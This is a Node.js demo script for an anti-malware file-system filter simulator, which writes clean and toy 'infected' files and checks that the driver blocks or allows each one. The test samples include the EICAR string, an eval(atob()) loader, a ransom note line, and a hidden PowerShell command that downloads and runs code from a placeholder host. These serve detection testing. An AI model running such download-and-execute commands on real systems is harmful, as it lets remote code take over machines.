#!/usr/bin/env node
/**
 * End-to-end demo (`npm run demo`): the Filter Manager simulator with the sample minifilter's real C code
 * (driver-sample/driver, run by the kernel harness: native/kernel), the scanner agent as a separate process (as
 * it is deployed next to the real driver), a generated set of clean and "infected" files (the EICAR test string
 * and toy signatures) opened through the driver's create callbacks, a verdict table, the driver's statistics,
 * and a clean unload (the harness's verifier checks it). Exits 0 when every verdict is the expected one and the
 * unload is clean, 1 otherwise.
 *
 * `npm run demo -- --twin` runs the driver's TypeScript twin instead (driver-sample/twin; also what runs where
 * the kernel harness does not: it needs Linux and a C compiler).
 *
 * Why the agent is a child process: the driver excludes the scanner's own process from scanning and sees
 * the agent's real pid through the simulator's Unix socket credentials, exactly as on Windows; the agent is
 * the unchanged examples/scanner-agent, pointed at the simulator by FLTMGR_SIMULATOR only. The simulator and
 * the driver run in this process because only the in-process driver can be sent simulated file opens.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FilterPort } from '../lib';
import { FilterManagerSimulator } from '../lib/simulator';
import type { OpenFileResult } from '../driver-sample/twin';
import { kernelHarnessAvailable, loadSampleDriver, type SampleDriver } from '../driver-sample/target';
import * as P from '../driver-sample/protocol';
import { EICAR, formatStats } from './scanner-agent';

interface Row {
  file: string;
  openedBy: string;
  expected: 'allowed' | 'blocked';
  result: OpenFileResult;
  note: string;
}

const DEADLINE_MS = 25_000;

function agentCommand(): { command: string; args: string[] } {
  const agent = join(__dirname, __filename.endsWith('.ts') ? 'scanner-agent.ts' : 'scanner-agent.js');
  // From the TypeScript sources (node --import tsx examples/demo.ts) the child needs the same loader.
  const loader = __filename.endsWith('.ts') ? ['--import', 'tsx'] : [];
  return { command: process.execPath, args: [...loader, agent] };
}

async function until(what: string, predicate: () => Promise<boolean>, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await predicate())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

function makeFiles(
  dir: string,
): Array<{ name: string; content: Buffer; expected: 'allowed' | 'blocked'; note: string }> {
  const pad = (n: number): Buffer => Buffer.alloc(n, 0x20);
  const files = [
    { name: 'hello.txt', content: Buffer.from('Hello, world.\n'), expected: 'allowed' as const, note: 'clean text' },
    {
      name: 'setup.exe',
      content: Buffer.concat([
        Buffer.from('MZ\x90\x00', 'latin1'),
        pad(200),
        Buffer.from('This program cannot be run in DOS mode.'),
      ]),
      expected: 'allowed' as const,
      note: 'clean executable',
    },
    {
      name: 'build.cmd',
      content: Buffer.from('@echo off\r\nnpm run build\r\n'),
      expected: 'allowed' as const,
      note: 'clean script',
    },
    {
      name: 'app.js',
      content: Buffer.from('console.log("ok");\n'),
      expected: 'allowed' as const,
      note: 'clean script',
    },
    {
      name: 'eicar.com',
      content: EICAR,
      expected: 'blocked' as const,
      note: "EICAR (.com added by the agent's SET_CONFIG)",
    },
    {
      name: 'report.txt',
      content: Buffer.concat([Buffer.from('quarterly figures\n'), pad(300), EICAR, pad(10)]),
      expected: 'blocked' as const,
      note: 'EICAR inside the first 1024 bytes',
    },
    {
      name: 'loader.js',
      content: Buffer.from('var p="aGk=";eval(atob(p));\n'),
      expected: 'blocked' as const,
      note: 'toy signature',
    },
    {
      name: 'README.txt',
      content: Buffer.from('YOUR FILES HAVE BEEN ENCRYPTED. Send 1 BTC to ...\n'),
      expected: 'blocked' as const,
      note: 'toy signature',
    },
    {
      name: 'update.ps1',
      content: Buffer.from('powershell -w hidden -c iex(iwr http://example.invalid/x)\n'),
      expected: 'blocked' as const,
      note: 'toy signature',
    },
    {
      name: 'photo.png',
      content: Buffer.concat([Buffer.from('\x89PNG\r\n', 'latin1'), EICAR]),
      expected: 'allowed' as const,
      note: 'not scanned: .png is not configured',
    },
    {
      name: 'late.txt',
      content: Buffer.concat([pad(2000), EICAR]),
      expected: 'allowed' as const,
      note: 'EICAR after the first 1024 bytes: not seen',
    },
  ];
  for (const f of files) writeFileSync(join(dir, f.name), f.content);
  return files;
}

function printTable(rows: Row[]): void {
  const header = ['file', 'opened by', 'expected', 'result', 'driver decision', 'note'];
  const cells = rows.map((r) => [
    r.file,
    r.openedBy,
    r.expected,
    r.result.allowed ? 'allowed' : 'ACCESS DENIED',
    r.result.reason + (r.result.reasonCode ? ` (signature ${r.result.reasonCode})` : ''),
    r.note,
  ]);
  const widths = header.map((h, i) => Math.max(h.length, ...cells.map((c) => (c[i] as string).length)));
  const line = (c: string[]): string =>
    c
      .map((v, i) => v.padEnd(widths[i] as number))
      .join('  ')
      .trimEnd();
  console.log(line(header));
  console.log(widths.map((w) => '-'.repeat(w)).join('  '));
  for (const [i, c] of cells.entries()) {
    const ok = (rows[i] as Row).result.allowed === ((rows[i] as Row).expected === 'allowed');
    console.log(`${line(c)}${ok ? '' : '   <-- WRONG'}`);
  }
}

/** The name the driver gets from FltGetFileNameInformation: a normalized NT path on the harness's volume. */
function ntPath(path: string): string {
  return `\\Device\\HarddiskVolume1${path.replace(/\//g, '\\')}`;
}

async function main(): Promise<number> {
  const started = Date.now();
  const dir = mkdtempSync(join(tmpdir(), 'fltmgr-demo-'));
  const sim = new FilterManagerSimulator();
  let agent: ChildProcess | undefined;
  let commands: FilterPort | undefined;
  let driver: SampleDriver | undefined;
  let unloadError: unknown;
  const rows: Row[] = [];
  const wantTwin = process.argv.includes('--twin');
  if (!wantTwin && !kernelHarnessAvailable()) {
    console.log('the kernel harness runs on Linux only: running the TypeScript twin of the driver instead');
  }
  const kind = wantTwin || !kernelHarnessAvailable() ? 'twin' : 'c';
  try {
    // 1. "Load the driver": DriverEntry of the sample's C code in the harness (or its twin), in the simulator.
    const endpoint = await sim.listen();
    // The driver's DbgPrintEx lines; the harness's own trace lines ("harness: ...") are left out.
    driver = await loadSampleDriver(kind, sim, {
      log: (line) => {
        if (!line.startsWith('harness:')) console.log(`  [driver] ${line}`);
      },
    });
    console.log(
      `simulator listening at ${endpoint}; sample minifilter ${P.FILTER_NAME} loaded ` +
        `(${kind === 'c' ? 'its C code, in the kernel harness' : 'its TypeScript twin'}), port ${P.PORT_NAME}`,
    );

    // 2. Start the agent as its own process. It asks for .com files to be scanned too (SET_CONFIG).
    const { command, args } = agentCommand();
    agent = spawn(
      command,
      [
        ...args,
        '--concurrency',
        '4',
        '--extensions',
        [...P.DEFAULT_EXTENSIONS, 'com'].join(','),
        '--timeout-ms',
        '3000',
      ],
      {
        env: { ...process.env, FLTMGR_SIMULATOR: endpoint },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    const agentOutput: string[] = [];
    agent.stdout?.setEncoding('utf8').on('data', (text: string) => agentOutput.push(text));
    agent.stderr?.setEncoding('utf8').on('data', (text: string) => agentOutput.push(text));
    const agentPid = agent.pid ?? 0;
    const d = driver;
    await until(
      'the scanner agent to connect and configure the driver',
      async () => (await d.stats()).scannerConnections === 1 && (await d.configuration()).extensions.includes('com'),
    );
    console.log(`scanner agent running as pid ${agentPid}\n`);

    // 3. Open every file as this process (not a scanner: its opens are scanned).
    for (const f of makeFiles(dir)) {
      const path = join(dir, f.name);
      const result = await driver.openFile({ path: ntPath(path), content: readFileSync(path), processId: process.pid });
      rows.push({ file: f.name, openedBy: `demo (${process.pid})`, expected: f.expected, result, note: f.note });
    }
    // The agent's own opens are never scanned, or it would wait for itself.
    const eicarPath = join(dir, 'eicar.com');
    rows.push({
      file: 'eicar.com',
      openedBy: `agent (${agentPid})`,
      expected: 'allowed',
      result: await driver.openFile({ path: ntPath(eicarPath), content: readFileSync(eicarPath), processId: agentPid }),
      note: "the scanner's own process is excluded",
    });

    // 4. Stop the agent (SIGTERM: it closes its port and exits 0), then see the failure policy at work.
    agent.kill('SIGTERM');
    const [code] = (await once(agent, 'exit')) as [number | null];
    if (code !== 0) throw new Error(`the agent exited with ${code}:\n${agentOutput.join('')}`);
    rows.push({
      file: 'eicar.com',
      openedBy: `demo (${process.pid})`,
      expected: 'allowed',
      result: await driver.openFile({
        path: ntPath(eicarPath),
        content: readFileSync(eicarPath),
        processId: process.pid,
      }),
      note: 'no agent, fail-open (the default)',
    });
    commands = await FilterPort.connect(P.PORT_NAME, { simulator: endpoint }); // a command-only connection
    await P.setConfig(commands, { ...(await P.getConfig(commands)), failClosed: true });
    const helloPath = join(dir, 'hello.txt');
    rows.push({
      file: 'hello.txt',
      openedBy: `demo (${process.pid})`,
      expected: 'blocked',
      result: await driver.openFile({
        path: ntPath(helloPath),
        content: readFileSync(helloPath),
        processId: process.pid,
      }),
      note: 'no agent, fail-closed (SET_CONFIG)',
    });

    printTable(rows);
    console.log(`\ndriver statistics (GET_STATS):\n${formatStats(await P.getStats(commands))}`);
  } finally {
    // 5. Shut down: our connection, the driver (unload), the simulator, the files.
    await commands?.close();
    if (agent !== undefined && agent.exitCode === null && agent.signalCode === null) {
      agent.kill('SIGKILL');
      await once(agent, 'exit');
    }
    // The C driver's unload runs the harness's verifier: leaks and broken rules reject it.
    await driver?.unload().catch((error: unknown) => {
      unloadError = error;
    });
    await sim.close();
    rmSync(dir, { recursive: true, force: true });
  }
  const wrong = rows.filter((r) => r.result.allowed !== (r.expected === 'allowed'));
  const leaked = await driver.stats();
  await driver.close();
  if (leaked.poolAllocations !== 0n) console.log(`driver leaked ${leaked.poolAllocations} pool allocations`);
  if (unloadError !== undefined)
    console.log(`unload: ${unloadError instanceof Error ? unloadError.message : JSON.stringify(unloadError)}`);
  const clean = leaked.poolAllocations === 0n && unloadError === undefined;
  console.log(
    `\n${rows.length - wrong.length}/${rows.length} verdicts as expected; unloaded cleanly: ${clean ? 'yes' : 'NO'} (${Date.now() - started} ms)`,
  );
  return wrong.length === 0 && clean ? 0 : 1;
}

const watchdog = setTimeout(() => {
  console.error(`demo: not finished after ${DEADLINE_MS} ms`);
  process.exit(1);
}, DEADLINE_MS);
watchdog.unref();

main().then(
  (code) => process.exit(code),
  (error: unknown) => {
    console.error(`demo failed: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
    process.exit(1);
  },
);
